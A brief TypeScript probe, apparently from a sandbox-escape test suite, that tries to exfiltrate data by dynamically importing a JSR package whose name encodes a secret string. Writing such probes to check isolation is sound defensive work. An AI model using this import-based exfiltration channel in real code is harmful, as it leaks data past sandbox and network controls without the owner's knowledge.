// Carries data out by importing from jsr.
import { type Target, within } from "../attack.ts";

export const layer = "namespaces";

export default async function (_target: Target): Promise<string | null> {
  await within(5000, import(`jsr:@secret/${"of-the-diary"}`));
  return "imported";
}
